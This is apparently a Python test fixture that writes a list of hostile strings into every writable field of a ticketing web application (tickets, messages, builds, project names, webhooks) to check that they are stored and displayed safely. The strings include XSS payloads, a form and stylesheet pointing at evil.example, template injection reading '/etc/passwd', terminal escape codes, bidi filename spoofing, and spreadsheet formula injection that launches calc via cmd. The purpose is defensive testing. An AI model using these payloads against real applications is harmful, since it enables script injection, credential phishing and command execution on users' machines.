"""Texts that mean harm or are merely in the way, and a desk at which they stand everywhere."""

from concurrent.futures import ThreadPoolExecutor
from typing import Any

from mcp_handoff.tokens import CreateToken
from tests.databases import in_store
from tests.http.served import OPERATOR, bearer
from tests.portal.scene import Scene

_ZALGO = "\u0300\u0301\u0302\u0303\u0304\u0323\u0324\u0325\u0326\u0327"

TEXTS = (
    "<script>alert(1)</script> runs a script",
    "<img src=x onerror=alert(1)> fails to load",
    '"><svg/onload=alert(1)> ends an attribute',
    "'-alert(1)-' onfocus='alert(1)' autofocus='",
    "</title></textarea></script><script>alert(1)//",
    "<!-- begins a comment and <![CDATA[ a section",
    "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A//</stYle/</titLe/>\\x3e",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<style>*{display:none}</style><link rel=stylesheet href=//evil.example/x>",
    "<form action=https://evil.example><input name=token></form>",
    "{{ 7 * 7 }} {% include '/etc/passwd' %} ${7*7} #{7*7} <%= 7 %>",
    "[a link](javascript:alert(1)) [b](data:text/html,<script>alert(1)</script>)",
    "![an image](https://evil.example/x.png) ![](data:image/svg+xml,<svg/onload=alert(1)>)",
    "[reference]\n\n[reference]: javascript:alert(1) 'title'",
    "[entities](&#106;avascript&colon;alert(1)) &lt;script&gt; &#x202e;",
    '<javascript:alert(1)> <https://evil.example/"onmouseover=alert(1)>',
    "```html\n<script>alert(1)</script>\n``` and | a | b |\n|-|-|\n| <b> | c |",
    "\x1b[31mred\x1b]0;title\x07 and \x9b2J cleared",
    "\u202egnp.exe\u202c \u2066isolated \u200fmarks\u200e",
    "zero\u200bwidth\u200d\ufeff\u2060 \u00adsoft words",
    '=HYPERLINK("https://evil.example","x")',
    "\uff1d1+1 in full width",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "W" * 140,
    "MW" * 35 + " " + "WM" * 34,
    "\u0634\u0643\u0644 \u0635\u0641\u062d\u0629 \u05d8\u05e7\u05e1\u05d8"
    " (\u0645\u0646 \u0627\u0644\u064a\u0645\u064a\u0646)!",
    "z" + _ZALGO * 3 + "a" + _ZALGO * 3 + "lgo" + _ZALGO * 6 + " combines",
    "\U0001f469\u200d\U0001f469\u200d\U0001f467\u200d\U0001f466\U0001f3f3\ufe0f\u200d\U0001f308"
    " \U0010ffff\ufffd\ud7ff\ue000 emoji",
    "\u6f22" * 70 + "\ufdfd" * 20,
)
"""What is stored wherever somebody can write."""


def _line(text: str, longest: int) -> str:
    return " ".join(text.split())[:longest]


class Hostile:
    """A project in which every one of these texts stands in every place that takes one."""

    def __init__(self, scene: Scene) -> None:
        self.scene = scene
        self.desk = scene.people.desk
        self.bots = self._bots()
        with ThreadPoolExecutor(8) as several:
            self.tickets = [*several.map(self._ticket, range(len(TEXTS)), TEXTS, self.bots)]
            done = several.map(self._build, TEXTS, self.bots)
            made = several.map(self._project, range(len(TEXTS)), TEXTS)
        assert [*done, *made] == [None] * 2 * len(TEXTS)
        self._settings()

    def _bots(self) -> list[str]:
        """Make a bot's token named after each text; return their secrets."""
        requests = [CreateToken(name=_line(text, 200), role="bot") for text in TEXTS]

        async def made(store: Any) -> list[str]:
            return [(await store.create_token(OPERATOR, one)).secret for one in requests]

        return in_store(self.desk.store, made)

    def post(self, path: str, token: str, **body: Any) -> Any:
        """Do something in the project by one of the tokens."""
        address = f"/api/projects/{self.scene.project}{path}"
        answer = self.desk.http.post(address, json=body, headers=bearer(token))
        assert answer.is_success, answer.text
        return answer.json()

    def _ticket(self, number: int, text: str, bot: str) -> str:
        """File a ticket of a text by its bot, and have everything happen to it."""
        fields: dict[str, Any] = {
            "title": _line(text, 140),
            "description": text,
            "suggested_resolution": text,
            "implementation_notes": text,
            "evidence": {text[:60]: text, "nested": {text[:60]: [text]}},
            "request_type": ("bug", "clarification_needed")[number % 2],
            "priority": ("high", "medium", "low")[number % 3],
            "blocking": number % 2 == 0,
            "roles": ["backend", "qa", "frontend"],
        }
        name: str = self.post("/tickets", bot, **fields)["ticket"]["reference"]
        self.post(f"/tickets/{name}/take", bot, role="backend", note=text)
        finished = {"role": "backend", "status": "done"}
        self._patch(name, bot, role_status=finished, resolution_note=text)
        self.post(f"/tickets/{name}/take", bot, role="qa", note=text)
        self.post(f"/tickets/{name}/messages", bot, body=text, to_role="frontend")
        self.post(f"/tickets/{name}/messages", bot, body=text)
        declined, _ = (
            self.post("/ai-suggestions", bot, ticket_id=name, evidence={text[:60]: text}, **of)
            for of in ({"pr_number": 1, "repo": "acme/shop"}, {"confidence": 0.5})
        )
        suggestion = declined["suggestion"]["id"]
        self.scene.send(
            "mia", "POST", f"/ai-suggestions/{suggestion}/action", action="decline", reason=text
        )
        if number % 4 == 0:
            self._patch(name, bot, stage="validation")
        if number % 7 == 0:
            closing = {"resolution_type": "wont_fix", "resolution_note": text}
            self._patch(name, bot, status="closed", **closing)
        return name

    def _patch(self, ticket: str, token: str, **body: Any) -> None:
        address = f"/api/projects/{self.scene.project}/tickets/{ticket}"
        answer = self.desk.http.patch(address, json=body, headers=bearer(token))
        assert answer.is_success, answer.text

    def _build(self, text: str, bot: str) -> None:
        """Register a build of a text, which fails with it."""
        builds, name = "/api/v1/org/default/builds", _line(text, 200)
        body = {"build_ref": name, "display_name": name, "provider": name, "description": text}
        made = self.desk.http.post(builds, json=body, headers=bearer(bot)).json()
        url = f"https://evil.example/{_line(text, 100)}"
        report = {"status": "failed", "error_message": text, "url": url}
        answer = self.desk.http.post(f"{builds}/{made['id']}/report", json=report)
        assert answer.is_success, answer.text

    def _project(self, number: int, text: str) -> None:
        project = {"name": _line(text, 200), "slug": f"{self.scene.project}-{number}"}
        assert self.desk.http.post("/api/projects", json=project).is_success

    def _settings(self) -> None:
        """Name repositories and webhooks as badly as they may be."""
        repositories = [f"{'W' * 90}/{'w' * 100}", "..-_/-._", "javascript/alert.1"]
        for name in repositories:
            sent = {"name": name, "project": self.scene.project}
            assert self.desk.http.post("/api/repositories", json=sent).is_success
        for host in ("w" * 60 + "." + "w" * 60 + ".example", "xn--bcher-kva.example"):
            sent = {"url": f"https://{host}/<script>alert(1)</script>"}
            assert self.desk.http.post("/api/webhooks", json=sent).is_success
